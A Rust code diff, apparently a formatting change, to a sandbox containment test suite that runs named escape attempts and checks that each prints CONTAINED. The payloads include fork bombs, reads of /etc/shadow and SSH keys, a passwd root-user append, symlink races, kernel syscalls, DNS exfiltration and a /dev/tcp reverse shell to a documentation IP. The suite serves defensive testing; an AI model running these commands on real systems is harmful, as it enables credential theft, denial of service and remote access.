@@ -40,7 +40,14 @@ fn py(script: &str) -> Vec<String> {
 fn no_tweak(_: &mut Policy) {}
 
 fn p(name: &'static str, argv: Vec<String>, expect: Vec<Outcome>) -> Payload {
-    Payload { name, argv, expect, tweak: no_tweak, env: Vec::new(), process_hit: None }
+    Payload {
+        name,
+        argv,
+        expect,
+        tweak: no_tweak,
+        env: Vec::new(),
+        process_hit: None,
+    }
 }
 
 /// A Python prelude: a raw syscall helper (x86_64 numbers) and the verdict functions.
@@ -66,7 +73,11 @@ pub fn payloads(host_port: u16) -> Vec<Payload> {
         // --- Resource exhaustion: killed by a limit.
         Payload {
             name: "fork bomb (shell)",
-            argv: vec!["/bin/bash".into(), "-c".into(), ":(){ :|:& };:; sleep 30".into()],
+            argv: vec![
+                "/bin/bash".into(),
+                "-c".into(),
+                ":(){ :|:& };:; sleep 30".into(),
+            ],
             expect: vec![Killed(StopReason::TimeLimit), Killed(StopReason::PidsLimit)],
             tweak: |p| p.limits.time = Duration::from_secs(2),
             env: Vec::new(),
@@ -74,7 +85,9 @@ pub fn payloads(host_port: u16) -> Vec<Payload> {
         },
         Payload {
             name: "fork bomb (python os.fork loop)",
-            argv: py("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
+            argv: py(
+                "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+            ),
             expect: vec![Killed(StopReason::TimeLimit), Killed(StopReason::PidsLimit)],
             tweak: |p| p.limits.time = Duration::from_secs(2),
             env: Vec::new(),
@@ -98,16 +111,28 @@ pub fn payloads(host_port: u16) -> Vec<Payload> {
         },
         Payload {
             name: "filling the workspace",
-            argv: sh("dd if=/dev/zero of=/work/fill bs=1M count=200 oflag=sync 2>/dev/null; s=$(wc -c < /work/fill); [ \"$s\" -le 16777216 ] && echo CONTAINED || echo ESCAPED"),
-            expect: vec![Contained, Killed(StopReason::DiskFull), Killed(StopReason::MemoryLimit)],
+            argv: sh(
+                "dd if=/dev/zero of=/work/fill bs=1M count=200 oflag=sync 2>/dev/null; s=$(wc -c < /work/fill); [ \"$s\" -le 16777216 ] && echo CONTAINED || echo ESCAPED",
+            ),
+            expect: vec![
+                Contained,
+                Killed(StopReason::DiskFull),
+                Killed(StopReason::MemoryLimit),
+            ],
             tweak: |p| p.limits.disk_bytes = 16 << 20,
             env: Vec::new(),
             process_hit: Some(StopReason::DiskFull),
         },
         Payload {
             name: "filling /tmp",
-            argv: sh("i=0; while [ $i -lt 100 ]; do head -c 1048576 /dev/zero > /tmp/f$i 2>/dev/null || break; i=$((i+1)); done; [ $i -le 16 ] && echo CONTAINED || echo ESCAPED"),
-            expect: vec![Contained, Killed(StopReason::DiskFull), Killed(StopReason::MemoryLimit)],
+            argv: sh(
+                "i=0; while [ $i -lt 100 ]; do head -c 1048576 /dev/zero > /tmp/f$i 2>/dev/null || break; i=$((i+1)); done; [ $i -le 16 ] && echo CONTAINED || echo ESCAPED",
+            ),
+            expect: vec![
+                Contained,
+                Killed(StopReason::DiskFull),
+                Killed(StopReason::MemoryLimit),
+            ],
             tweak: |p| p.limits.disk_bytes = 16 << 20,
             env: Vec::new(),
             process_hit: Some(StopReason::DiskFull),
@@ -146,85 +171,227 @@ pub fn payloads(host_port: u16) -> Vec<Payload> {
         },
         Payload {
             name: "10000 open files",
-            argv: py("import os\nfds=[]\ntry:\n    for i in range(10000):\n        fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError:\n    pass\nprint('CONTAINED' if len(fds) < 10000 else 'ESCAPED')"),
+            argv: py(
+                "import os\nfds=[]\ntry:\n    for i in range(10000):\n        fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError:\n    pass\nprint('CONTAINED' if len(fds) < 10000 else 'ESCAPED')",
+            ),
             expect: vec![Contained],
             tweak: no_tweak,
             env: Vec::new(),
             process_hit: None,
         },
         // --- Secrets and the host's files.
-        p("reading /etc/shadow", sh("cat /etc/shadow 2>/dev/null | grep -q 'root:' && echo ESCAPED || echo CONTAINED"), vec![Contained]),
+        p(
+            "reading /etc/shadow",
+            sh("cat /etc/shadow 2>/dev/null | grep -q 'root:' && echo ESCAPED || echo CONTAINED"),
+            vec![Contained],
+        ),
         p(
             "reading the host's SSH keys",
-            sh("for f in /root/.ssh/* /home/*/.ssh/* /etc/ssh/ssh_host_*_key; do [ -r \"$f\" ] && head -c1 \"$f\" >/dev/null 2>&1 && echo ESCAPED; done; echo CONTAINED"),
+            sh(
+                "for f in /root/.ssh/* /home/*/.ssh/* /etc/ssh/ssh_host_*_key; do [ -r \"$f\" ] && head -c1 \"$f\" >/dev/null 2>&1 && echo ESCAPED; done; echo CONTAINED",
+            ),
             vec![Contained],
         ),
         Payload {
             name: "reading the host's environment",
-            argv: sh("env | grep -q CARGO_ && echo ESCAPED; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -q CARGO_ && echo ESCAPED; echo CONTAINED"),
+            argv: sh(
+                "env | grep -q CARGO_ && echo ESCAPED; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -q CARGO_ && echo ESCAPED; echo CONTAINED",
+            ),
             expect: vec![Contained],
             tweak: no_tweak,
             env: Vec::new(),
             process_hit: None,
         },
-        p("listing /home and /root", sh("ls /home /root >/dev/null 2>&1 && echo ESCAPED || echo CONTAINED"), vec![Contained]),
-        p("host /sys and cgroup files", sh("ls /sys/class/net >/dev/null 2>&1 && echo ESCAPED; mkdir /sys/fs/cgroup/memory/x 2>/dev/null && echo ESCAPED; echo CONTAINED"), vec![Contained]),
         p(
-            "block devices and /dev/mem",
-            sh("for d in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/kvm /dev/port; do [ -e $d ] && echo ESCAPED; done; echo CONTAINED"),
+            "listing /home and /root",
+            sh("ls /home /root >/dev/null 2>&1 && echo ESCAPED || echo CONTAINED"),
             vec![Contained],
         ),
-        p("/proc/kcore", sh("head -c 16 /proc/kcore >/dev/null 2>&1 && echo ESCAPED || echo CONTAINED"), vec![Contained]),
+        p(
+            "host /sys and cgroup files",
+            sh(
+                "ls /sys/class/net >/dev/null 2>&1 && echo ESCAPED; mkdir /sys/fs/cgroup/memory/x 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "block devices and /dev/mem",
+            sh(
+                "for d in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/kvm /dev/port; do [ -e $d ] && echo ESCAPED; done; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "/proc/kcore",
+            sh("head -c 16 /proc/kcore >/dev/null 2>&1 && echo ESCAPED || echo CONTAINED"),
+            vec![Contained],
+        ),
         // --- Writing where it must not.
-        p("writing to /usr", sh("echo x > /usr/evil 2>/dev/null && echo ESCAPED; touch /usr/bin/evil 2>/dev/null && echo ESCAPED; echo CONTAINED"), vec![Contained]),
-        p("writing to /etc", sh("echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd 2>/dev/null && echo ESCAPED; echo x > /etc/evil 2>/dev/null && echo ESCAPED; echo CONTAINED"), vec![Contained]),
-        p("writing to /", sh("touch /evil 2>/dev/null && echo ESCAPED || echo CONTAINED"), vec![Contained]),
+        p(
+            "writing to /usr",
+            sh(
+                "echo x > /usr/evil 2>/dev/null && echo ESCAPED; touch /usr/bin/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "writing to /etc",
+            sh(
+                "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd 2>/dev/null && echo ESCAPED; echo x > /etc/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "writing to /",
+            sh("touch /evil 2>/dev/null && echo ESCAPED || echo CONTAINED"),
+            vec![Contained],
+        ),
         p(
             "escaping the workspace through ..",
-            sh("cd /work; echo x > ../../evil 2>/dev/null && echo ESCAPED; cat ../../etc/shadow 2>/dev/null && echo ESCAPED; echo x > /work/../usr/evil 2>/dev/null && echo ESCAPED; echo CONTAINED"),
+            sh(
+                "cd /work; echo x > ../../evil 2>/dev/null && echo ESCAPED; cat ../../etc/shadow 2>/dev/null && echo ESCAPED; echo x > /work/../usr/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
             vec![Contained],
         ),
         p(
             "escaping the workspace through symlinks",
-            sh("cd /work; ln -s / root; ln -s /etc/shadow s; cat s 2>/dev/null && echo ESCAPED; ls root/root >/dev/null 2>&1 && echo ESCAPED; echo x > root/usr/evil 2>/dev/null && echo ESCAPED; echo CONTAINED"),
+            sh(
+                "cd /work; ln -s / root; ln -s /etc/shadow s; cat s 2>/dev/null && echo ESCAPED; ls root/root >/dev/null 2>&1 && echo ESCAPED; echo x > root/usr/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
             vec![Contained],
         ),
         p(
             "hard link to a system file",
-            sh("ln /usr/bin/env /work/env 2>/dev/null && echo x >> /work/env 2>/dev/null && echo ESCAPED; echo CONTAINED"),
+            sh(
+                "ln /usr/bin/env /work/env 2>/dev/null && echo x >> /work/env 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
             vec![Contained],
         ),
         p(
             "time-of-check race on the workspace (swap file and symlink)",
-            py("import os, time\nos.chdir('/work')\npid = os.fork()\nif pid == 0:\n    end = time.time() + 3\n    while time.time() < end:\n        try:\n            os.symlink('/etc/shadow', 't')\n            os.remove('t')\n            open('t', 'w').write('ok')\n            os.remove('t')\n        except OSError:\n            pass\n    os._exit(0)\nleak = False\nfor i in range(20000):\n    try:\n        if 'root:' in open('t').read():\n            leak = True\n    except OSError:\n        pass\nos.kill(pid, 9)\nos.waitpid(pid, 0)\nprint('ESCAPED' if leak else 'CONTAINED')"),
+            py(
+                "import os, time\nos.chdir('/work')\npid = os.fork()\nif pid == 0:\n    end = time.time() + 3\n    while time.time() < end:\n        try:\n            os.symlink('/etc/shadow', 't')\n            os.remove('t')\n            open('t', 'w').write('ok')\n            os.remove('t')\n        except OSError:\n            pass\n    os._exit(0)\nleak = False\nfor i in range(20000):\n    try:\n        if 'root:' in open('t').read():\n            leak = True\n    except OSError:\n        pass\nos.kill(pid, 9)\nos.waitpid(pid, 0)\nprint('ESCAPED' if leak else 'CONTAINED')",
+            ),
             vec![Contained],
         ),
         // --- Privilege and kernel attack surface.
-        p("is not root and has no capabilities", sh("[ \"$(id -u)\" = 0 ] && echo ESCAPED; grep -q 'CapEff:\\s*0*$' /proc/self/status || echo ESCAPED; echo CONTAINED"), vec![Contained]),
-        p("setuid(0)", pysys("try:\n    os.setuid(0)\n    verdict(True)\nexcept OSError:\n    verdict(False)"), vec![Contained]),
         p(
-            "setuid binaries",
-            sh("for b in /usr/bin/su /usr/bin/passwd /usr/bin/mount /usr/bin/newgrp /bin/su; do [ -x $b ] || continue; out=$($b -c id root </dev/null 2>/dev/null); echo \"$out\" | grep -q 'uid=0' && echo ESCAPED; done; out=$(echo 'id -u' | /usr/bin/newgrp 2>/dev/null); [ \"$out\" = 0 ] && echo ESCAPED; echo CONTAINED"),
+            "is not root and has no capabilities",
+            sh(
+                "[ \"$(id -u)\" = 0 ] && echo ESCAPED; grep -q 'CapEff:\\s*0*$' /proc/self/status || echo ESCAPED; echo CONTAINED",
+            ),
             vec![Contained],
         ),
-        p("ptrace of another process", pysys("import subprocess\nc = subprocess.Popen(['sleep', '5'])\nr, e = sysc(101, 16, c.pid, 0, 0)\nc.kill()\nverdict(r == 0)"), vec![Contained]),
-        p("ptrace(TRACEME)", pysys("r, e = sysc(101, 0, 0, 0, 0)\nverdict(r == 0)"), vec![Contained]),
-        p("process_vm_readv", pysys("r, e = sysc(310, 1, 0, 0, 0, 0, 0)\nverdict(r >= 0)"), vec![Contained]),
-        p("mounting a filesystem", sh("mount -t tmpfs none /tmp 2>/dev/null && echo ESCAPED; python3 -c \"import ctypes; l=ctypes.CDLL(None); print('ESCAPED' if l.mount(b'none', b'/tmp', b'tmpfs', 0, None)==0 else 'ok')\"; echo CONTAINED"), vec![Contained]),
-        p("loading a kernel module", pysys("r1, _ = sysc(175, 0, 0, b'')\nr2, _ = sysc(313, 0, b'', 0)\nverdict(r1 == 0 or r2 == 0)"), vec![Contained]),
-        p("kexec_load", pysys("r, e = sysc(246, 0, 0, 0, 0)\nverdict(r == 0)"), vec![Contained]),
-        p("bpf()", pysys("r, e = sysc(321, 0, 0, 0)\nverdict(r >= 0)"), vec![Contained]),
-        p("unshare a user namespace", sh("unshare -U -r id 2>/dev/null | grep -q uid=0 && echo ESCAPED; python3 -c \"import ctypes; print('ESCAPED' if ctypes.CDLL(None).unshare(0x10000000)==0 else 'ok')\"; echo CONTAINED"), vec![Contained]),
-        p("setns into another namespace", pysys("fd = os.open('/proc/self/ns/net', os.O_RDONLY)\nr, e = sysc(308, fd, 0)\nverdict(r == 0)"), vec![Contained]),
-        p("keyctl / add_key", pysys("r, e = sysc(248, b'user', b'k', b'v', 1, 0xfffffffd)\nverdict(r >= 0)"), vec![Contained]),
-        p("userfaultfd", pysys("r, e = sysc(323, 0)\nverdict(r >= 0)"), vec![Contained]),
-        p("perf_event_open", pysys("attr = ctypes.create_string_buffer(128)\nr, e = sysc(298, attr, 0, -1, -1, 0)\nverdict(r >= 0)"), vec![Contained]),
-        p("chroot", pysys("try:\n    os.chroot('/tmp')\n    verdict(True)\nexcept OSError:\n    verdict(False)"), vec![Contained]),
-        p("writing /proc/sys", sh("echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED; echo 0 > /proc/sys/kernel/randomize_va_space 2>/dev/null && echo ESCAPED; echo CONTAINED"), vec![Contained]),
-        p("changing the hostname", sh("hostname evil 2>/dev/null && echo ESCAPED; python3 -c \"import socket; socket.sethostname('evil')\" 2>/dev/null && echo ESCAPED; echo CONTAINED"), vec![Contained]),
+        p(
+            "setuid(0)",
+            pysys("try:\n    os.setuid(0)\n    verdict(True)\nexcept OSError:\n    verdict(False)"),
+            vec![Contained],
+        ),
+        p(
+            "setuid binaries",
+            sh(
+                "for b in /usr/bin/su /usr/bin/passwd /usr/bin/mount /usr/bin/newgrp /bin/su; do [ -x $b ] || continue; out=$($b -c id root </dev/null 2>/dev/null); echo \"$out\" | grep -q 'uid=0' && echo ESCAPED; done; out=$(echo 'id -u' | /usr/bin/newgrp 2>/dev/null); [ \"$out\" = 0 ] && echo ESCAPED; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "ptrace of another process",
+            pysys(
+                "import subprocess\nc = subprocess.Popen(['sleep', '5'])\nr, e = sysc(101, 16, c.pid, 0, 0)\nc.kill()\nverdict(r == 0)",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "ptrace(TRACEME)",
+            pysys("r, e = sysc(101, 0, 0, 0, 0)\nverdict(r == 0)"),
+            vec![Contained],
+        ),
+        p(
+            "process_vm_readv",
+            pysys("r, e = sysc(310, 1, 0, 0, 0, 0, 0)\nverdict(r >= 0)"),
+            vec![Contained],
+        ),
+        p(
+            "mounting a filesystem",
+            sh(
+                "mount -t tmpfs none /tmp 2>/dev/null && echo ESCAPED; python3 -c \"import ctypes; l=ctypes.CDLL(None); print('ESCAPED' if l.mount(b'none', b'/tmp', b'tmpfs', 0, None)==0 else 'ok')\"; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "loading a kernel module",
+            pysys(
+                "r1, _ = sysc(175, 0, 0, b'')\nr2, _ = sysc(313, 0, b'', 0)\nverdict(r1 == 0 or r2 == 0)",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "kexec_load",
+            pysys("r, e = sysc(246, 0, 0, 0, 0)\nverdict(r == 0)"),
+            vec![Contained],
+        ),
+        p(
+            "bpf()",
+            pysys("r, e = sysc(321, 0, 0, 0)\nverdict(r >= 0)"),
+            vec![Contained],
+        ),
+        p(
+            "unshare a user namespace",
+            sh(
+                "unshare -U -r id 2>/dev/null | grep -q uid=0 && echo ESCAPED; python3 -c \"import ctypes; print('ESCAPED' if ctypes.CDLL(None).unshare(0x10000000)==0 else 'ok')\"; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "setns into another namespace",
+            pysys(
+                "fd = os.open('/proc/self/ns/net', os.O_RDONLY)\nr, e = sysc(308, fd, 0)\nverdict(r == 0)",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "keyctl / add_key",
+            pysys("r, e = sysc(248, b'user', b'k', b'v', 1, 0xfffffffd)\nverdict(r >= 0)"),
+            vec![Contained],
+        ),
+        p(
+            "userfaultfd",
+            pysys("r, e = sysc(323, 0)\nverdict(r >= 0)"),
+            vec![Contained],
+        ),
+        p(
+            "perf_event_open",
+            pysys(
+                "attr = ctypes.create_string_buffer(128)\nr, e = sysc(298, attr, 0, -1, -1, 0)\nverdict(r >= 0)",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "chroot",
+            pysys(
+                "try:\n    os.chroot('/tmp')\n    verdict(True)\nexcept OSError:\n    verdict(False)",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "writing /proc/sys",
+            sh(
+                "echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED; echo 0 > /proc/sys/kernel/randomize_va_space 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
+        p(
+            "changing the hostname",
+            sh(
+                "hostname evil 2>/dev/null && echo ESCAPED; python3 -c \"import socket; socket.sethostname('evil')\" 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
         Payload {
             name: "signals to host processes",
-            argv: sh("kill -9 $HOST_PID 2>/dev/null && echo ESCAPED; kill -9 -1 2>/dev/null; echo CONTAINED"),
+            argv: sh(
+                "kill -9 $HOST_PID 2>/dev/null && echo ESCAPED; kill -9 -1 2>/dev/null; echo CONTAINED",
+            ),
             expect: vec![Contained, Killed(StopReason::Signal)],
             tweak: no_tweak,
             env: vec![("HOST_PID", host_pid.to_string())],
@@ -232,45 +399,77 @@ pub fn payloads(host_port: u16) -> Vec<Payload> {
         },
         Payload {
             name: "seeing host processes",
-            argv: sh("ls /proc/$HOST_PID >/dev/null 2>&1 && echo ESCAPED; n=$(ls /proc | grep -c '^[0-9]'); [ \"$n\" -lt 20 ] && echo CONTAINED || echo ESCAPED"),
+            argv: sh(
+                "ls /proc/$HOST_PID >/dev/null 2>&1 && echo ESCAPED; n=$(ls /proc | grep -c '^[0-9]'); [ \"$n\" -lt 20 ] && echo CONTAINED || echo ESCAPED",
+            ),
             expect: vec![Contained],
             tweak: no_tweak,
             env: vec![("HOST_PID", host_pid.to_string())],
             process_hit: None,
         },
         // In the oci/gvisor tiers the command itself is PID 1 and may end itself; the host is untouched.
-        p("killing the sandbox init", sh("kill -9 1 2>/dev/null; sleep 0.2; echo CONTAINED"), vec![Contained, Killed(StopReason::Signal)]),
+        p(
+            "killing the sandbox init",
+            sh("kill -9 1 2>/dev/null; sleep 0.2; echo CONTAINED"),
+            vec![Contained, Killed(StopReason::Signal)],
+        ),
         // --- Network.
-        p("raw sockets", pysys("import socket\nok = False\nfor fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (17, socket.SOCK_RAW, 0)]:\n    try:\n        socket.socket(fam, typ, proto)\n        ok = True\n    except OSError:\n        pass\nverdict(ok)"), vec![Contained]),
+        p(
+            "raw sockets",
+            pysys(
+                "import socket\nok = False\nfor fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (17, socket.SOCK_RAW, 0)]:\n    try:\n        socket.socket(fam, typ, proto)\n        ok = True\n    except OSError:\n        pass\nverdict(ok)",
+            ),
+            vec![Contained],
+        ),
         Payload {
             name: "connecting to the host's loopback from inside `none`",
-            argv: py("import os, socket\ntry:\n    socket.create_connection(('127.0.0.1', int(os.environ['HOST_PORT'])), timeout=2)\n    print('ESCAPED')\nexcept OSError:\n    print('CONTAINED')"),
+            argv: py(
+                "import os, socket\ntry:\n    socket.create_connection(('127.0.0.1', int(os.environ['HOST_PORT'])), timeout=2)\n    print('ESCAPED')\nexcept OSError:\n    print('CONTAINED')",
+            ),
             expect: vec![Contained],
             tweak: no_tweak,
             env: vec![("HOST_PORT", host_port.to_string())],
             process_hit: None,
         },
-        p("connecting to the internet", py("import socket\ntry:\n    socket.create_connection(('1.1.1.1', 80), timeout=2)\n    print('ESCAPED')\nexcept OSError:\n    print('CONTAINED')"), vec![Contained]),
+        p(
+            "connecting to the internet",
+            py(
+                "import socket\ntry:\n    socket.create_connection(('1.1.1.1', 80), timeout=2)\n    print('ESCAPED')\nexcept OSError:\n    print('CONTAINED')",
+            ),
+            vec![Contained],
+        ),
         p(
             "DNS exfiltration",
-            py("import socket\nescaped = False\ntry:\n    socket.getaddrinfo('secret-data.exfil.example.com', 80)\n    escaped = True\nexcept OSError:\n    pass\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n    s.settimeout(1)\n    s.recv(512)\n    escaped = True\nexcept OSError:\n    pass\nprint('ESCAPED' if escaped else 'CONTAINED')"),
+            py(
+                "import socket\nescaped = False\ntry:\n    socket.getaddrinfo('secret-data.exfil.example.com', 80)\n    escaped = True\nexcept OSError:\n    pass\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n    s.settimeout(1)\n    s.recv(512)\n    escaped = True\nexcept OSError:\n    pass\nprint('ESCAPED' if escaped else 'CONTAINED')",
+            ),
             vec![Contained],
         ),
         p(
             "reverse shell to a raw IP",
-            sh("(exec 3<>/dev/tcp/203.0.113.5/4444) 2>/dev/null && echo ESCAPED; python3 -c \"import socket; socket.create_connection(('203.0.113.5', 4444), timeout=1)\" 2>/dev/null && echo ESCAPED; echo CONTAINED"),
+            sh(
+                "(exec 3<>/dev/tcp/203.0.113.5/4444) 2>/dev/null && echo ESCAPED; python3 -c \"import socket; socket.create_connection(('203.0.113.5', 4444), timeout=1)\" 2>/dev/null && echo ESCAPED; echo CONTAINED",
+            ),
             vec![Contained],
         ),
         // --- Descriptors and leftovers.
         Payload {
             name: "file descriptors leaked from the parent",
-            argv: sh("for f in /proc/self/fd/*; do n=${f##*/}; [ \"$n\" -gt 2 ] 2>/dev/null || continue; cat $f 2>/dev/null | grep -q LEAKED-SECRET && echo ESCAPED; done; echo CONTAINED"),
+            argv: sh(
+                "for f in /proc/self/fd/*; do n=${f##*/}; [ \"$n\" -gt 2 ] 2>/dev/null || continue; cat $f 2>/dev/null | grep -q LEAKED-SECRET && echo ESCAPED; done; echo CONTAINED",
+            ),
             expect: vec![Contained],
             tweak: no_tweak,
             env: Vec::new(),
             process_hit: None,
         },
-        p("zombie and orphan processes", sh("(sleep 1000 &); (sh -c 'sleep 1000 & exit 0'); sleep 1000 & python3 -c \"import os\nif os.fork()==0:\n    os.setsid()\n    if os.fork()==0:\n        import time; time.sleep(1000)\n\"; echo CONTAINED"), vec![Contained]),
+        p(
+            "zombie and orphan processes",
+            sh(
+                "(sleep 1000 &); (sh -c 'sleep 1000 & exit 0'); sleep 1000 & python3 -c \"import os\nif os.fork()==0:\n    os.setsid()\n    if os.fork()==0:\n        import time; time.sleep(1000)\n\"; echo CONTAINED",
+            ),
+            vec![Contained],
+        ),
     ];
     v.shrink_to_fit();
     v
@@ -280,13 +479,18 @@ pub fn payloads(host_port: u16) -> Vec<Payload> {
 pub fn judge(pl: &Payload, tier: Tier, out: &ExecOutput) -> Result<String, String> {
     let contained = out.stdout.contains("CONTAINED") && !out.stdout.contains("ESCAPED");
     if out.stdout.contains("ESCAPED") {
-        return Err(format!("ESCAPED: stdout {:?}", out.stdout.chars().take(300).collect::<String>()));
+        return Err(format!(
+            "ESCAPED: stdout {:?}",
+            out.stdout.chars().take(300).collect::<String>()
+        ));
     }
     let mut ok = None;
     for e in &pl.expect {
         match e {
             Outcome::Contained if contained => ok = Some("contained".to_string()),
-            Outcome::Killed(r) if out.stop_reason == *r => ok = Some(format!("killed ({})", r.as_str())),
+            Outcome::Killed(r) if out.stop_reason == *r => {
+                ok = Some(format!("killed ({})", r.as_str()))
+            }
             _ => {}
         }
         if ok.is_some() {
@@ -308,15 +512,26 @@ pub fn judge(pl: &Payload, tier: Tier, out: &ExecOutput) -> Result<String, Strin
     if tier == Tier::Process {
         if let Some(h) = pl.process_hit {
             if !out.limits_hit.contains(&h) {
-                return Err(format!("expected the {} limit to be hit, got {:?}", h.as_str(), out.limits_hit));
+                return Err(format!(
+                    "expected the {} limit to be hit, got {:?}",
+                    h.as_str(),
+                    out.limits_hit
+                ));
             }
         }
     }
     if pl.name.starts_with("huge stdout") {
         if !out.stdout_truncated || out.stdout.len() as u64 > out_cap() {
-            return Err(format!("stdout not capped: {} bytes, truncated {}", out.stdout.len(), out.stdout_truncated));
+            return Err(format!(
+                "stdout not capped: {} bytes, truncated {}",
+                out.stdout.len(),
+                out.stdout_truncated
+            ));
         }
-        return Ok(format!("{how}, stdout capped at {} bytes", out.stdout.len()));
+        return Ok(format!(
+            "{how}, stdout capped at {} bytes",
+            out.stdout.len()
+        ));
     }
     Ok(how)
 }
@@ -351,7 +566,11 @@ pub async fn run_suite(tier: Tier) -> Option<Vec<(String, Result<String, String>
                     Err(e) => return (i, pl.name.to_string(), Err(format!("cannot open: {e}"))),
                 };
                 let mut req = ExecRequest::new(pl.argv.clone());
-                let env: BTreeMap<String, String> = pl.env.iter().map(|(k, v)| (k.to_string(), v.clone())).collect();
+                let env: BTreeMap<String, String> = pl
+                    .env
+                    .iter()
+                    .map(|(k, v)| (k.to_string(), v.clone()))
+                    .collect();
                 req.env = env;
                 let verdict = match sb.exec(req).await {
                     Ok(out) => judge(&pl, tier, &out),
